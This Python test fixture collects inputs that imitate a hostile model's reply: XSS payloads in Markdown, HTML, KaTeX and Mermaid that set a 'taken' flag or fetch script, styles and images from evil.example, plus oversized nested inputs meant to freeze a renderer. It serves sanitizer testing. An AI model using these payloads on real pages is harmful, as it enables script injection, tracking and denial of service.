"""What a hostile model might write. What of it runs sets `taken`; what of it asks, asks evil.example."""

EVIL = "evil.example"

MARKUP = {
    "script": "<script>taken=1</script>",
    "script of another site": "<script src=https://evil.example/x.js></script>",
    "event handler": "<img src=x onerror=taken=1>",
    "handlers on load": "<body onload=taken=1><details open ontoggle=taken=1>",
    "frame": "<iframe srcdoc='<script>parent.taken=1</script>' src='javascript:parent.taken=1'></iframe>",
    "drawing": "<svg onload=taken=1><script>taken=1</script><set attributeName=href to=javascript:taken=1>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=https://evil.example/>",
    "style": "<style>* { display: none } body { background: url(https://evil.example/a.png) }</style>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "form": "<form action=https://evil.example/><input autofocus onfocus=taken=1><button>x</button></form>",
    "object": "<object data='data:text/html,<script>taken=1</script>'></object><embed src=//evil.example/x>",
    "media": "<video src=x onerror=taken=1></video><audio src=https://evil.example/x.mp3 autoplay></audio>",
    "mathml": "<math><mtext><mglyph><style><!--</style><img src=x onerror=taken=1>",
    "template": "<template><script>taken=1</script></template><noscript><p title='</noscript><img src=x>'>",
    "script link": "[点](javascript:taken=1) [点](JaVaScRiPt:taken=1) [点](java\nscript:taken=1)",
    "encoded link": "[点](&#106;avascript&colon;taken=1) [点](<javascript:taken=1>) [点](%6aavascript:x)",
    "other links": "[点](data:text/html,x) [点](vbscript:msgbox) [点](file:///etc) [点](//evil.example)",
    "link defined elsewhere": "[点][bad]\n\n[bad]: javascript:taken=1",
    "autolink": "<javascript:taken=1> <data:text/html,x> <vbscript:x>",
    "script picture": "![图](javascript:taken=1) ![图](data:image/svg+xml,<svg/onload=taken=1>)",
    "picture": "![图](https://evil.example/pixel.png)",
    "attributes": '[点](https://a.com/"onclick="taken=1) [点](https://a.example \'" onclick="taken=1\')',
    "footnote": '看[^x"onclick="taken=1]，[^1]\n\n[^1]: <img src=x onerror=taken=1> [点](javascript:taken=1)',
    "language of code": '```"><img/src=x/onerror=taken=1>\n<script>taken=1</script>\n```',
    "coloured code": "```html\n<img src=x onerror=taken=1><script>taken=1</script>\n```",
    "our own marks": "\ufdd00\ufdd1 \ufdd0999\ufdd1 $x$ \ufdd00\ufdd1",
}

# With the harmless tags, which become elements.
TAGS = {
    "handlers": "<b onclick=taken=1>x</b> <u onfocus=taken=1 autofocus tabindex=1>x</u>",
    "handlers in a second line": "<kbd\nonclick=taken=1>x</kbd> <s\tonclick=taken=1>x</s>",
    "slashes": "<br/onload=taken=1> <sub/onclick=taken=1>x</sub> <mark/**/style=position:fixed>x</mark>",
    "looks": "<mark style='position:fixed;inset:0'>x</mark> <s class=app id=app>x</s>",
    "script in a tag": "<b<script>taken=1</script>>x</b> <<b>script>taken=1<</b>/script>",
    "script between tags": "<u><script>taken=1</script></u> <sub><img src=x onerror=taken=1></sub>",
    "torn script": "<scr<!-- -->ipt>taken=1</scr<!-- -->ipt> <img <!-- --> src=x onerror=taken=1>",
    "comments that end early": "<!--><img src=x onerror=taken=1> --> <!--x--!><script>taken=1</script> -->",
    "conditional comment": "<!--[if IE]><script>taken=1</script><![endif]--><![CDATA[<script>]]>",
    "fold with handlers": "<details ontoggle=taken=1 open>\n<summary onclick=taken=1>x</summary>\n</details>",
    "fold around a script": "<details>\n<summary><script>taken=1</script></summary>\n<img src=x onerror=x>"
    "\n\n<iframe srcdoc='<script>parent.taken=1</script>'></iframe>\n\n<style>* {}</style>\n\n</details>",
    "wrongly nested": "<b><i><u></b></i><svg onload=taken=1></u> <sub><table><td onclick=taken=1></sub>",
    "links in tags": '<u>[点](javascript:taken=1)</u> <i>https://evil.example/"onclick=taken=1</i>',
    "call-out": '> [!NOTE]<img src=x onerror=taken=1>\n\n> [!NOTE" onclick="taken=1]\n> x',
    "our own marks": "<sub>\ufdd00\ufdd1</sub> <b>$x$\ufdd09\ufdd1</b> <\ufdd00\ufdd1script>taken=1</script>",
}

FORMULAS = {
    "links": r"$\href{javascript:taken=1}{点}$ $\url{javascript:taken=1}$ \(\href{https://evil.example}{x}\)",
    "picture": r"$\includegraphics[height=1em]{https://evil.example/a.png}$",
    "html": r"$\htmlData{x=1}{y} \htmlId{app}{y} \htmlClass{app}{y} \htmlStyle{position:fixed}{y}$",
    "elements": r'$\text{<img src=x onerror=taken=1>}$ $\color{red" onclick="taken=1}x$',
    "endless macro": r"$\def\a{\a\a}\a$",
    "exploding macro": r"$$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c\c\c$$",
    "giant": r"$\rule{99999em}{99999em}$ $\raisebox{9999em}{x}\kern99999em y$",
    "deep": "$" + "{" * 1900 + "x" + "}" * 1900 + "$",
    "lasting macro": r"$\gdef\frac{\href{javascript:1}{x}}$ $\frac{1}{2}$",
}

DIAGRAMS = {
    "click": 'flowchart TD\n  A --> B\n  click A href "javascript:taken=1"\n  click B call alert()',
    "labels": "flowchart TD\n  A[\"<img src=x onerror='taken=1'><script>taken=1</script>\"]",
    "loose": """%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(https://evil.example/x.css);'}}%%
flowchart TD
  A["<b onclick='taken=1'>x</b><iframe src=//evil.example>"]""",
    "picture": 'flowchart TD\n  A@{ img: "https://evil.example/a.png", label: "x", w: 60, h: 60 }',
    "styles": """flowchart TD
  A:::x --> B
  classDef x fill:url(https://evil.example/a.svg),background-image:url(https://evil.example/b.png)""",
    "mask": "flowchart TD\n  style B mask:url(https://evil.example/c.svg)\n  B --> C",
    "frontmatter": """---
config:
  securityLevel: loose
  themeCSS: '} * { background: url(https://evil.example/d.png) }'
---
flowchart TD
  A --> B""",
    "menu": """sequenceDiagram
  participant A
  link A: x @ javascript:taken=1
  A->>A: <img src=x onerror=taken=1>""",
    "no working day": """gantt
  dateFormat YYYY-MM-DD
  excludes monday,tuesday,wednesday,thursday,friday,saturday,sunday
  x :2024-01-01, 3d""",
    "ten thousand years": """gantt
  dateFormat YYYY-MM-DD
  tickInterval 1millisecond
  excludes weekends
  x :0001-01-01, 9999-01-01""",
    "crowd": "flowchart TD\n" + "\n".join(f"  A{at} --> B{at}" for at in range(400)),
}

# Each alone could keep a page busy for minutes, or break it.
MOUNTAINS = {
    "nested quotes": ">" * 20000,
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(150)),
    "brackets": "[" * 20000 + "]" * 100,
    "half links": "[a](" * 10000,
    "stars": "*a **a " * 4000,
    "backticks": "`a``b```" * 3000,
    "tildes": "~" * 20000 + "`",
    "open fence": "```" + " " * 20000 + "`",
    "dollars": "$a_" * 8000,
    "backslashes": r"\(\[" * 8000,
    "one long word": "一" * 30000,
    "open folds": "<details>\n<summary>x</summary>\n" * 2000,
    "folds in a quote": "> <details><summary>x</summary>" * 700,
    "open tags": "<b><i><u>" * 3000,
    "crossing tags": "<b><i>" * 600 + "x" + "</b></i>" * 600,
    "open comments": "<!-- " * 6000,
    "addresses": "https://" * 4000 + "a@" * 4000,
    "many rows": "| a | b |\n| - | - |\n" + "| x | y |\n" * 2500,
    "many columns": "|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n|" + "b|" * 3000,
    "many notes": "\n\n".join(f"[^{at}]\n\n[^{at}]: x" for at in range(300)),
}

REPLIES = {
    "markup": "\n\n".join(MARKUP.values()),
    "tags": "\n\n".join(TAGS.values()),
    "formulas": "\n\n".join(FORMULAS.values()),
    "diagrams": "\n\n".join(f"```mermaid\n{code}\n```" for code in DIAGRAMS.values()),
    **MOUNTAINS,
}
